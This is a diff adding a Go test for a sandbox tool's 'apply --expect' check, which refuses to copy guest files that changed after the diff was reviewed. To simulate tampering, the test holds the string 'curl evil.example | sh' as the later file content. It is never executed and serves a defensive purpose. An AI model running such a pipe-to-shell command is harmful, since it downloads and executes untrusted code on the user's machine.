@@ -172,3 +172,59 @@ func TestApproveSendsTheVersionShown(t *testing.T) {
 		t.Fatalf("approve of the version shown: exit %d, stdout %q, stderr %q, request %+v", code, out, errs, req)
 	}
 }
+
+// 'kosa8 diff' then 'kosa8 apply': the guest may change a file between the
+// two. The diff prints a token of what it showed; 'apply --expect TOKEN'
+// applies only while the changes are still those, each as shown, and
+// refuses, writing nothing, once the sandbox changed one.
+func TestApplyExpectsWhatTheDiffShowed(t *testing.T) {
+	const listed, later = "fixed the test\n", "curl evil.example | sh\n"
+	var hash atomic.Value // the hash the status lists
+	sumOf := func(s string) string { b := sha256.Sum256([]byte(s)); return hex.EncodeToString(b[:]) }
+	hash.Store(sumOf(listed))
+	var applied atomic.Value
+	mux := http.NewServeMux()
+	ws := ""
+	mux.HandleFunc("GET /v1/sync", func(w http.ResponseWriter, r *http.Request) {
+		json.NewEncoder(w).Encode(api.SyncStatus{Path: ws, Status: wsync.Status{
+			Pending: []wsync.Change{{Path: "a.txt", Kind: "added", Guest: &wsync.Entry{Path: "a.txt", Type: 'f', Mode: 0o644, Size: int64(len(listed)), Hash: hash.Load().(string)}}},
+		}})
+	})
+	mux.HandleFunc("POST /v1/sync/apply", func(w http.ResponseWriter, r *http.Request) {
+		var req api.SyncRequest
+		json.NewDecoder(r.Body).Decode(&req)
+		applied.Store(req)
+		json.NewEncoder(w).Encode(api.SyncResponse{Done: req.Paths})
+	})
+	mux.HandleFunc("POST /v1/exec", func(w http.ResponseWriter, r *http.Request) {
+		conn, brw, err := w.(http.Hijacker).Hijack()
+		if err != nil {
+			return
+		}
+		defer conn.Close()
+		fmt.Fprintf(brw, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: kosa8-exec\r\nConnection: Upgrade\r\n\r\n")
+		brw.Flush()
+		guest.WriteFrame(conn, guest.FrameStdout, []byte(listed))
+		guest.WriteJSON(conn, guest.FrameExit, guest.ExitStatus{Code: 0})
+	})
+	ws = t.TempDir()
+	fakeRunning(t, "fx", ws, mux)
+
+	code, out, errs := kosa8(t, "diff", "fx")
+	i := strings.Index(errs, "--expect ")
+	if code != 0 || !strings.Contains(out, "+fixed the test") || i < 0 {
+		t.Fatalf("diff: exit %d, stdout %q, stderr %q", code, out, errs)
+	}
+	token := strings.Fields(errs[i+len("--expect "):])[0]
+
+	hash.Store(sumOf(later)) // the guest changed a.txt since
+	if code, out, errs := kosa8(t, "apply", "fx", "--expect", token); code == 0 || applied.Load() != nil || !strings.Contains(errs, "diff fx") {
+		t.Fatalf("applied after the sandbox changed the file: exit %d, stdout %q, stderr %q", code, out, errs)
+	}
+	hash.Store(sumOf(listed))
+	code, out, errs = kosa8(t, "apply", "fx", "--expect", token)
+	req, _ := applied.Load().(api.SyncRequest)
+	if code != 0 || req.Seen["a.txt"] == nil || req.Seen["a.txt"].Hash != sumOf(listed) || len(req.Paths) != 1 {
+		t.Fatalf("apply of the changes shown: exit %d, stdout %q, stderr %q, request %+v", code, out, errs, req)
+	}
+}
